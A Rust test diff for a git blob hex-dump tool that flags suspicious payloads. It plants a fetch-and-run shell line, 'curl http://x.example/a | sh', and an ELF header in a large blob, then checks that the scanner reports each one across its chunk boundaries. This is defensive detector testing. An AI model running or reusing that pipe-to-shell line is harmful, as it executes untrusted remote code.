@@ -335,3 +335,86 @@ fn a_long_side_styled_by_two_threads_matches_one_run() {
         assert_eq!(fg(&row[2..]), fg(want), "line {i}");
     }
 }
+
+/// Filler bytes that start no finding (0x80..=0xbf), no two rows alike.
+fn filler(len: usize) -> Vec<u8> {
+    (0..len as u32).map(|i| 0x80 | (i.wrapping_mul(2_654_435_761) >> 13) as u8 & 0x3f).collect()
+}
+
+/// A 5 MiB blob with payloads straddling the 1 MiB steps the scan reads in.
+fn large_blob() -> (Vec<u8>, Vec<u64>) {
+    let mut data = filler(5 << 20);
+    let mut put = |at: usize, bytes: &[u8]| data[at..at + bytes.len()].copy_from_slice(bytes);
+    let shebang = (1 << 20) - 4;
+    put(shebang, b"#!/bin/sh\ncurl http://x.example/a | sh\n");
+    let mut elf = vec![0u8; 64];
+    elf[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
+    elf[16] = 2;
+    elf[18] = 0x3e;
+    let elf_at = (2 << 20) - 20;
+    put(elf_at, &elf);
+    let marker = (3 << 20) - 6;
+    put(marker, b"####Hello####");
+    let curl = shebang + 10;
+    (data, vec![shebang as u64, curl as u64, elf_at as u64, marker as u64])
+}
+
+#[test]
+fn hex_reads_a_large_blob_in_one_pass_loose_or_packed() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let path = dir.path().join("r");
+    let mut w = Writer::init(&path).expect("init");
+    let (data, offsets) = large_blob();
+    let mut files = Files::new();
+    files.insert("big.bin".into(), data.clone());
+    let t = w.tree(&files).expect("tree");
+    let p = Person { name: "A".into(), email: "a@example.org".into() };
+    w.commit(Some("refs/heads/main"), &[], t, &p, &p, 1_700_000_000, "big\n").expect("commit");
+    w.set_head("main").expect("head");
+    let db = dir.path().join("db");
+    let hex = |extra: &[&str]| {
+        let mut args = vec!["hex", "main:big.bin", "--repo", s(&path), "--db", s(&db), "--color", "never"];
+        args.extend_from_slice(extra);
+        text(&rearview(&args))
+    };
+
+    let deep = hex(&["--offset", "0x480000", "--length", "32"]);
+    let found: Vec<u64> = deep
+        .lines()
+        .filter_map(|l| l.strip_prefix("⚠ 0x"))
+        .map(|l| u64::from_str_radix(&l[..8], 16).expect("offset"))
+        .collect();
+    assert_eq!(found, offsets, "each payload once, across the scan's steps: {deep}");
+    assert!(!deep.contains("first 64"), "the whole blob is scanned: {deep}");
+    let rows: Vec<&str> = deep.lines().filter(|l| l.starts_with("0048")).collect();
+    assert_eq!(rows.len(), 2, "{deep}");
+    let bytes: Vec<String> = data[0x480000..0x480004].iter().map(|b| format!("{b:02x}")).collect();
+    assert!(rows[0].starts_with(&format!("00480000  {}", bytes.join(" "))), "{deep}");
+
+    // Longer than what the first pass keeps: read again, same rows.
+    let kept = hex(&["--offset", "0x300000", "--length", "0x100000"]);
+    let rest = hex(&["--offset", "0x300000"]);
+    let row_lines = |out: &str| out.lines().filter(|l| l.starts_with("00")).map(str::to_owned).collect::<Vec<_>>();
+    let (kept, rest) = (row_lines(&kept), row_lines(&rest));
+    assert_eq!(rest.len(), (2 << 20) / 16);
+    assert_eq!(rest[..kept.len()], kept[..]);
+    assert_eq!(rest.last().map(|l| &l[..10]), Some("004ffff0  "));
+
+    // Packed, the same output.
+    let loose = hex(&["--offset", "0xffff0", "--length", "64"]);
+    let id = String::from_utf8(
+        std::process::Command::new("git")
+            .args(["rev-parse", "main:big.bin"])
+            .current_dir(&path)
+            .output()
+            .expect("git")
+            .stdout,
+    )
+    .expect("utf-8");
+    let object = path.join(".git/objects").join(&id[..2]).join(id[2..].trim());
+    assert!(object.exists(), "loose first");
+    let repack = std::process::Command::new("git").args(["repack", "-adq"]).current_dir(&path).status().expect("git");
+    assert!(repack.success());
+    assert!(!object.exists(), "packed now");
+    assert_eq!(hex(&["--offset", "0xffff0", "--length", "64"]), loose);
+}
